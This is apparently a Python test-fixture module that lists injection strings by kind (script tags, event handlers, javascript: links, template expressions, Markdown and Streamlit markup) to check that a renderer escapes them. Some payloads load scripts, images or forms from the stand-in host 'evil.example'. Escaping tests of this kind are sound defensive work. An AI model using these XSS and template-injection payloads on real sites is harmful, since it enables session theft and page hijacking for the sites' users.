"""Marked words: markup that gives itself away, and the number of its file, if any door turns it into more than text.

``@@`` stands for the file's number wherever it is written; ``geo`` must show all of this as the characters it is.
"""

from __future__ import annotations

#: Nobody answers there, and the browser is not let out anyway: a request to it is a fault in itself.
HOST = "evil.example"
#: What a command that was run by mistake would leave in the working directory.
TRACE = "siege-was-here"

_RUN = "window.__pwned=@@;alert(@@)"
_PICTURE = f"http://{HOST}/@@.png"

#: By kind: strings that run, fetch, compute or turn into markup where they are not escaped.
MARKUP: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{_RUN}</script>",
        f"</script><script>{_RUN}</script>",
        f"</style></title></textarea><script>{_RUN}</script>",
        f"--><script>{_RUN}</script><!--",
        f"<scr\x0bipt>{_RUN}</scr\x0bipt><script/x>{_RUN}</script>",
        f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
        f"&lt;script&gt;{_RUN}&lt;/script&gt;",
        f"<script src=http://{HOST}/@@.js></script>",
    ),
    "handler": (
        f"<img src=x onerror={_RUN}>",
        f"<svg onload={_RUN}>",
        f"<svg><style><img src=x onerror={_RUN}></style></svg>",
        f"<details open ontoggle={_RUN}>x</details>",
        f'" autofocus onfocus="{_RUN}" x="',
        f"' onmouseover='{_RUN}' style='position:fixed;inset:0' x='",
        f"<video><source onerror={_RUN}></video><body onpageshow={_RUN}>",
        f"<input autofocus onfocus={_RUN}><select autofocus onfocus={_RUN}>",
        f"<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={_RUN}>x</b>",
    ),
    "link": (
        f"<a href=javascript:{_RUN}>x</a>",
        f"[x](javascript:{_RUN})",
        f"<iframe src=javascript:{_RUN}></iframe>",
        f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
        f"<object data=http://{HOST}/@@></object><embed src=http://{HOST}/@@>",
        f"<meta http-equiv=refresh content='0;url=http://{HOST}/@@'>",
        f"<base href=http://{HOST}/@@/>",
        f"<form action=http://{HOST}/@@><button autofocus>x</button></form>",
        f"<link rel=stylesheet href=http://{HOST}/@@.css>",
        f"<style>*{{background:url(http://{HOST}/@@)}}</style>",
        f"<img src={_PICTURE} srcset='{_PICTURE} 2x'>",
    ),
    "template": (
        "t@@-{{7*7}}-t",
        "t@@-${7*7}-t",
        "t@@-{% print(7*7) %}-t",
        "t@@-{{ self.__init__.__globals__ }}-t {% for x in y %}",
        "t@@-#{7*7}-t t@@-<%= 7*7 %>-t t@@-*{7*7}-t",
        "`t@@-${7*7}-t` `${window.__pwned=@@}`",
        "{0.__class__} %(title)s %s %n {title!r} {",
        "{{ this.get_name() }} {% endmacro %} {% raw %}",
    ),
    "Markdown": (
        f"![i]({_PICTURE})",
        f"[pwned@@](http://{HOST}/@@)",
        f"http://{HOST}/pwned@@ <http://{HOST}/pwned@@>",
        f"[pwned@@][r]\n\n[r]: http://{HOST}/@@",
        "**pwned@@** __pwned@@__ ~~pwned@@~~ `pwned@@`",
        "# pwned@@\n> pwned@@\n- pwned@@\n| pwned@@ | b |\n|---|---|",
        "$pwned@@$ $$pwned@@$$",
        "\\**pwned@@\\** \\\\`pwned@@\\\\`",
    ),
    "Streamlit": (
        ":material/skull: :skull: :streamlit:",
        ":red[pwned@@] :blue-background[pwned@@] :rainbow[pwned@@]",
        ":red-badge[pwned@@] :small[pwned@@] :color[pwned@@]{foreground=red}",
        f":violet[![i]({_PICTURE})] :material/home:`pwned@@`",
    ),
}


def numbered(text: str | bytes, number: int) -> bytes:
    """``text`` as bytes with the number of its file in the place of ``@@``."""
    raw = text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")
    return raw.replace(b"@@", str(number).encode())
